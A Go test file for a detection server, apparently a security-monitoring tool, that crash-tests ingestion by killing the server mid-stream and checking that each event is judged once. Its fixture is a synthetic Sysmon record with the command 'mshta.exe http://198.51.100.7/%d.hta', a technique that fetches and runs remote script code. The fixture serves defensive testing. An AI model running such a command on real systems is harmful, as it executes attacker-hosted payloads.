// SPDX-FileCopyrightText: 2026 The Gambeson Authors
// SPDX-License-Identifier: Apache-2.0

package app

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"gambeson/cases"
	"gambeson/state"
)

// server is `gambeson serve` in a process of its own, which can be killed.
type server struct {
	t      testing.TB
	data   string
	config string
	door   string // address
	api    string
	cmd    *exec.Cmd
}

// newServer prepares a data folder with a sender, and returns its token.
func newServer(t testing.TB) (*server, string) {
	t.Helper()
	dir := t.TempDir()
	s := &server{t: t, data: filepath.Join(dir, "data"), config: filepath.Join(dir, "gambeson.yaml"), door: freeAddress(t), api: freeAddress(t)}
	text := fmt.Sprintf("ingest:\n  http: {listen: %q}\n  otlp: {grpc: \"\", http: \"\"}\napi: {listen: %q}\nbus: {min_free: 1048576, warn_free: 1048576}\n"+
		"pipeline: {idle_tick: 100ms, snapshot_every: 5}\n", s.door, s.api)
	if err := os.WriteFile(s.config, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	token := filepath.Join(dir, "token")
	out, err := exec.Command("gambeson", "source", "add", "hosts", "--data", s.data, "--token-file", token).CombinedOutput()
	if err != nil {
		t.Fatalf("source add: %v\n%s", err, out)
	}
	secret, err := os.ReadFile(token)
	if err != nil {
		t.Fatal(err)
	}
	return s, strings.TrimSpace(string(secret))
}

// freeAddress returns a loopback address that nobody listens on now.
func freeAddress(t testing.TB) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().String()
}

func (s *server) start() {
	s.t.Helper()
	s.cmd = exec.Command("gambeson", "serve", "--config", s.config, "--data", s.data)
	var log bytes.Buffer
	s.cmd.Stderr = &log
	if err := s.cmd.Start(); err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(func() {
		s.kill()
		if s.t.Failed() {
			s.t.Logf("serve said:\n%s", log.String())
		}
	})
	for range 600 {
		if r, err := http.Get("http://" + s.api + "/readyz"); err == nil {
			r.Body.Close()
			if r.StatusCode == http.StatusOK {
				return
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	s.t.Fatalf("serve is not ready:\n%s", log.String())
}

// kill ends the process as kill -9 does.
func (s *server) kill() {
	if s.cmd != nil {
		_ = s.cmd.Process.Kill() // it may be gone
		_ = s.cmd.Wait()
		s.cmd = nil
	}
}

// stop interrupts the process and waits for its end in order.
func (s *server) stop() {
	s.t.Helper()
	if err := s.cmd.Process.Signal(os.Interrupt); err != nil {
		s.t.Fatal(err)
	}
	if err := s.cmd.Wait(); err != nil {
		s.t.Errorf("serve ended with %v", err)
	}
	s.cmd = nil
}

// send posts a body and returns the status, 0 where there was no answer.
func (s *server) send(token, key, body string) int {
	r, err := http.NewRequestWithContext(context.Background(), http.MethodPost, "http://"+s.door+"/ingest/ndjson", strings.NewReader(body))
	if err != nil {
		s.t.Fatal(err)
	}
	r.Header.Set("Authorization", "Bearer "+token)
	r.Header.Set("Idempotency-Key", key)
	client := http.Client{Timeout: 10 * time.Second}
	defer client.CloseIdleConnections()
	answer, err := client.Do(r)
	if err != nil {
		return 0
	}
	answer.Body.Close()
	return answer.StatusCode
}

// attack is a record that one of the own rules finds.
func attack(i int) string {
	return fmt.Sprintf(`{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon",`+
		`"Hostname":"ws1.corp.example","UtcTime":"2026-03-02 09:14:%02d","Image":"C:\\Windows\\System32\\mshta.exe",`+
		`"CommandLine":"mshta.exe http://198.51.100.7/%d.hta","ParentImage":"C:\\Windows\\explorer.exe","User":"CORP\\m.weber"}`, i%60, i)
}

// TestServeCrash kills the server at random moments while a sender sends what
// it got no acknowledgement for again. At the end each acknowledged event has
// been judged once, and all are in one case.
func TestServeCrash(t *testing.T) {
	kills, events := 3, 60
	if os.Getenv("GAMBESON_SOAK") != "" {
		kills, events = 200, 4000
	}
	s, token := newServer(t)
	s.start()
	random := rand.New(rand.NewPCG(3, 5))
	next := events / (kills + 1)
	for i := 0; i < events; {
		if i >= next && kills > 0 {
			kills--
			next = i + 1 + random.IntN(max(1, 2*(events-i)/(kills+2)))
			after := time.Duration(random.IntN(4000)) * time.Microsecond
			go func(p *os.Process) {
				time.Sleep(after)
				_ = p.Kill() // it may be gone
			}(s.cmd.Process)
			s.send(token, fmt.Sprint("k", i), attack(i)) // its acknowledgement may be lost
			s.kill()
			s.start()
		}
		if s.send(token, fmt.Sprint("k", i), attack(i)+"\n"+`{"EventID":`) == http.StatusOK {
			i++
		}
	}
	if got := s.send("gambeson_source_nobody", "x", "{}"); got != http.StatusUnauthorized {
		t.Errorf("an unknown token: status %d, want 401", got)
	}
	time.Sleep(time.Second)
	s.stop()
	s.start() // what was left is dealt with
	time.Sleep(2 * time.Second)
	s.stop()
	s.check(events)
}

// check looks at what the state holds in the end.
func (s *server) check(events int) {
	s.t.Helper()
	db, err := state.Open(s.t.Context(), state.Deps{}, filepath.Join(s.data, stateFolder))
	if err != nil {
		s.t.Fatal(err)
	}
	defer db.Close()
	all, cursor, err := db.Cases.List(s.t.Context(), state.CaseFilter{Tenant: "default", Limit: 100})
	if err != nil || len(all) != 1 || cursor != (state.Cursor{}) {
		s.t.Fatalf("%d cases, %v; want 1", len(all), err)
	}
	found := s.findings(db, &all[0])
	for e, n := range found {
		if n != found[firstKey(found)] {
			s.t.Errorf("event %s has %d findings, another %d", e, n, found[firstKey(found)])
		}
	}
	if len(found) != events {
		s.t.Errorf("%d events have findings, want %d", len(found), events)
	}
	letters, _, err := db.DeadLetters.List(s.t.Context(), state.DeadLetterFilter{Tenant: "default", Limit: 1000})
	if err != nil || (len(letters) != events && events < 1000) {
		s.t.Errorf("%d dead letters, %v; want %d", len(letters), err, events)
	}
}

// findings counts the findings of each event of a case.
func (s *server) findings(db *state.DB, c *cases.Case) map[string]int {
	s.t.Helper()
	out := make(map[string]int)
	var after state.Cursor
	for {
		page, next, err := db.Findings.OfCase(s.t.Context(), c.Tenant, c.ID, after, 500)
		if err != nil {
			s.t.Fatal(err)
		}
		for _, f := range page {
			out[f.Evidence[0].Event.String()]++
		}
		if next == (state.Cursor{}) {
			return out
		}
		after = next
	}
}

func firstKey(m map[string]int) string {
	for k := range m {
		return k
	}
	return ""
}

func TestServeRefuses(t *testing.T) {
	out, err := exec.Command("gambeson", "serve").CombinedOutput()
	ended := &exec.ExitError{}
	if !errors.As(err, &ended) || ended.ExitCode() != exitUsage || !strings.Contains(string(out), "--data DIR") {
		t.Errorf("serve without a folder: %v\n%s", err, out)
	}
}
